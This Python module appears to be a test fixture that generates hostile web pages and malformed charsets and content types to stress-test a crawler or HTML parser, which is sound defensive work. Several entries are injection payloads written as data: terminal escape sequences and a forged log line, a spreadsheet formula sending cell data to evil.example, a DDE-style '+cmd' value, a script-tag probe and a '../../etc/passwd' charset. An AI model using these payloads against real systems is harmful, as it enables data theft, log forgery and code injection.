"""Pages that cost a reader too much, or say what must not be taken at its word."""

import codecs
import random
from collections.abc import Callable

from hostile_http import HTML, fixed, http, made
from hostile_world import World

_START = b"<!doctype html><html><head><title>a page</title></head><body><main><p>some words of a page</p>"


def _attributes(number: int) -> bytes:
    return b" ".join(b"a%d=1" % index for index in range(number))


def _text(text: str) -> bytes:
    return _START + f"<p>{text}</p>".encode("utf-8", "surrogatepass")


def _data(json: bytes) -> bytes:
    return b'<script type="application/ld+json">' + json + b"</script>" + _START


_SURROGATES = rb'{"@type": "Article", "author": {"name": "\ud800\udfff"}, "name": "\ud83d", "date": "\udfff"}'
PAGES: dict[str, Callable[[], bytes]] = {
    "40000-attributes": lambda: _START + b"<p " + _attributes(40_000) + b">x</p>",
    "400-attributes": lambda: _START + (b"<p " + _attributes(400) + b">x</p>") * 1_200,
    "100000-divs": lambda: _START + b"<div>" * 100_000,
    "100000-divs-closed": lambda: _START + b"<div>" * 100_000 + b"x" + b"</div>" * 100_000,
    "9000-divs": lambda: _START + b"<div class=a>" * 9_000 + b"<p>x" + b"</div>" * 9_000,
    "a-million-anchors": lambda: b"<a href>" * 900_000,
    "70000-anchors": lambda: _START + b"<a href=/good/first>x" * 70_000,
    "30000-anchors": lambda: _START + b"".join(b"<a href=/p%d>word</a> " % number for number in range(30_000)),
    "formatting": lambda: _START + b"<b><i><u>" * 20_000 + b"x" + b"<p>" * 900,
    "tables": lambda: _START + b"<table><tr><td>" * 15_000 + b"x",
    "tables-of-text": lambda: _START + b"<table>x" * 15_000,
    "selects": lambda: _START + b"<select><option>" * 30_000,
    "templates": lambda: _START + b"<template>" * 30_000 + b"x",
    "svg": lambda: _START + b"<svg><foreignObject>" * 20_000 + b"x",
    "frames": lambda: b"<frameset><frame src=/good/first>" * 9_000,
    "5-MB-on-a-line": lambda: _text("word of a line without an end " * 170_000),
    "5-MB-without-a-space": lambda: _text("a" * 5_000_000),
    "5-MB-of-spaces": lambda: _text(" " * 5_000_000),
    "5-MB-of-line-feeds": lambda: _text("\n" * 5_000_000),
    "8-MB-of-tags-open": lambda: _START + b"<" * 7_900_000,
    "8-MB-comment": lambda: _START + b"<!--" + b"-" * 7_900_000,
    "8-MB-script": lambda: _START + b"<script>" + b"var a='b/c';" * 650_000,
    "8-MB-attribute": lambda: _START + b"<p title='" + b"&amp;" * 1_500_000,
    "8-MB-href": lambda: _START + b"<a href='/" + b"x" * 7_900_000 + b"'>x</a>",
    "entities": lambda: _START + b"&nbsp&lt&#x41;&notit;&CounterClockwiseContourIntegral;" * 100_000,
    "random": lambda: random.Random(5).randbytes(5_000_000),
    "zeros": lambda: bytes(5_000_000),
    "zeros-in-text": lambda: _START + b"w\0o\0r\0d\0 " * 500_000,
    "controls": lambda: _text("".join(map(chr, range(32))) * 9_000),
    "dotted": lambda: _text("a." * 40_000),
    "mail-like": lambda: _text("a.a@" * 20_000),
    "url-like": lambda: _text("http://a.b/" * 50_000),
    "near-names": lambda: _text("Quilmark Quillmarc Qillmark Quillmarks Quill mark Quull-mark quilI mark " * 5_000),
    "combining": lambda: _text("\u0301\u0316" * 40_000),
    "combining-on-letters": lambda: _text("q\u0301\u0316\u0301\u0316u" * 20_000),
    "zalgo": lambda: _text("Q" + "\u0301" * 100_000),
    "joined": lambda: _text("Q\u200du\u200bi\u2060l\ufeffl" * 40_000),
    "right-to-left": lambda: _text("\u202e\u2066\u2067" * 60_000 + "words"),
    "emoji": lambda: _text("\U0001f468\u200d\U0001f469\u200d" * 60_000),
    "hangul": lambda: _text("\u1100\u1161\u11a8" * 60_000),
    "ligature": lambda: _text("\ufdfa" * 100_000),
    "quotes": lambda: _text("\"'“”‘’«»" * 60_000),
    "digits": lambda: _text("1" * 500_000),
    "dates": lambda: _text("2026-11-26T" * 50_000),
    "sharp-s": lambda: _text("ß\u1e9eİı" * 100_000),
    "tabs": lambda: _text("\t \u00a0\u3000" * 200_000),
    "surrogates": lambda: _data(_SURROGATES) + b"&#xD800;&#xDFFF;\xed\xa0\x80",
    "json-2-MB": lambda: _data(b'{"@type": "Article", "headline": "' + b"x" * 2_000_000 + b'"}'),
    "json-deep": lambda: _data(b'{"a":' * 100_000),
    "json-lists": lambda: _data(b"[" * 1_000_000),
    "json-many": lambda: _data(b"[" + b'{"@type":"Article","author":{"name":"x"}},' * 50_000 + b"{}]"),
    "json-number": lambda: _data(b'{"@type": "Article", "wordCount": ' + b"9" * 1_000_000 + b"}"),
    "json-types": lambda: _data(b'{"@type": {"@type": []}, "author": 5, "headline": {}, "url": true}'),
    "json-scripts": lambda: _data(b'{"@type":"Article"}') * 4_000,
    "title-100-kB": lambda: b"<title>" + b"title " * 17_000 + b"</title>" + _START,
    "title-5-MB": lambda: b"<title>" + b"t" * 5_000_000 + b"</title>" + _START,
    "titles": lambda: b"<title>t</title>" * 20_000 + _START,
    "title-escapes": lambda: b"<title>\x1b]0;owned\x07\x1b[2J\x1b[31m\r\nERROR forged line\x9b</title>" + _START,
    "title-formula": lambda: (
        _START + b"<title>=HYPERLINK(\"http://evil.example/?\"&A1)</title><meta name=author content='+cmd|x'>"
    ),
    "title-script": lambda: b"<title><script>alert(1)</script></title><h1>&lt;script&gt;</h1>" + _START,
    "metas": lambda: b"<meta property='og:title' content='x'>" * 30_000 + _START,
    "meta-refreshes": lambda: b"<meta http-equiv=refresh content='0;url=/page'>" * 5_000 + _START,
    "meta-refresh-spaces": lambda: b"<meta http-equiv=refresh content='" + b" " * 3_000_000 + b"0;url=/page'>" + _START,
    "meta-refresh-slow": lambda: b"<meta http-equiv=refresh content='1e999;url=/page'>" + _START,
    "base-twice": lambda: b"<base href='http://['><base href='javascript:x'><base href>" + _START + b"<a href=x>y</a>",
    "alternates": lambda: (
        b"".join(b"<link rel=alternate type=application/rss+xml href=/f%d>" % number for number in range(9_000))
        + _START
    ),
    "dates-in-head": lambda: b"<meta property='article:published_time' content='%s'>" % (b"9" * 100_000) + _START,
    "lang": lambda: b"<html lang='" + b"x-" * 100_000 + b"'>" + _START,
    "xml-as-html": lambda: b"<?xml version='1.0'?><!DOCTYPE html [<!ENTITY a 'b'>]><html>&a;" + _START,
}

CHARSETS = """
../../etc/passwd rot13 rot_13 idna punycode utf-7 unicode_escape raw_unicode_escape undefined hex base64 bz2 zip quopri
uu mbcs oem utf-8-sig utf-16 utf-32 utf-9 latin-1 iso-2022-kr hz-gb-2312 x-user-defined replacement cp037
utf8mb4 none null
string-escape charmap palmos utf-8;charset=utf-16 "utf-8 utf-8" 'utf-8' utf%2d8 %00 a'b os.system x-mac-cyrillic koi8
""".split()


def build(world: World) -> None:
    """Add the hosts."""
    for name, make in world.some(PAGES.items()):
        world.host(f"page-{name}", "pages").hostile("/page", made(make))
    header, meta = world.host("charsets-header", "pages"), world.host("charsets-meta", "pages")
    body = _START + b"<p>words of a page \xe9\xa0\xff +AGE- \\u0041 =41</p>"
    for number, charset in enumerate(CHARSETS):
        header.hostile(f"/header/{number}", fixed(http(body, kind=f"text/html; charset={charset}")))
        says = f"<meta charset=\"{charset}\"><?xml version='1.0' encoding='{charset}'?>".encode()
        meta.hostile(f"/meta/{number}", fixed(http(says + body, kind="text/html")))
    header.hostile("/long", fixed(http(_START, kind=f"text/html; charset={'c' * 60_000}")))
    for number, mark in enumerate(
        (codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE, codecs.BOM_UTF32_LE, b"+/v8-")
    ):
        header.hostile(f"/mark/{number}", fixed(http(mark * 2 + _START, kind="text/html; charset=koi8-r")))
    _kinds(world)
    _honest(world)


def _kinds(world: World) -> None:
    """Odd content types."""
    host = world.host("kinds", "pages")
    for number, kind in enumerate(
        (
            "",
            "/",
            "text",
            "text/html/",
            ";;;",
            "text/html; " * 99,
            "image/svg+xml",
            "application/pdf",
            "application/xhtml+xml",
            "multipart/x-mixed-replace; boundary=a",
            "message/rfc822",
            "application/json",
            "application/x-gzip",
            "text/css",
            "*/*",
            "application/octet-stream",
            "text/event-stream",
            "TEXT/HTML",
            "text/html\t;charset",
            'text/plain; charset="',
            "x" * 9_000,
        )
    ):
        host.hostile(f"/kind/{number}", fixed(http(_START, kind=kind)))
        host.hostile(f"/random/{number}", fixed(http(random.Random(number).randbytes(50_000), kind=kind)))


def _honest(world: World) -> None:
    """Pages in honest charsets."""
    host = world.host("honest-charsets", "honest", innocent=False)
    for charset in ("windows-1252", "iso-8859-15", "shift_jis", "gb18030", "koi8-r", "euc-kr", "utf-8"):
        body = host.page(f"/{charset}").encode(charset)
        host.good(f"/{charset}", answer=fixed(http(body, kind=f"text/html; charset={charset}")))
    for charset in ("utf-16-le", "utf-16-be", "utf-8"):
        mark = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE, "utf-8": codecs.BOM_UTF8}[charset]
        body = mark + host.page(f"/mark-{charset}").encode(charset)
        host.good(f"/mark-{charset}", answer=fixed(http(body, kind="text/html")))
    host.good("/header-lies", answer=fixed(http(host.page("/header-lies").encode(), kind="text/html; charset=rot13")))
    host.good("/no-kind", answer=fixed(http(host.page("/no-kind").encode(), kind=HTML.upper())))
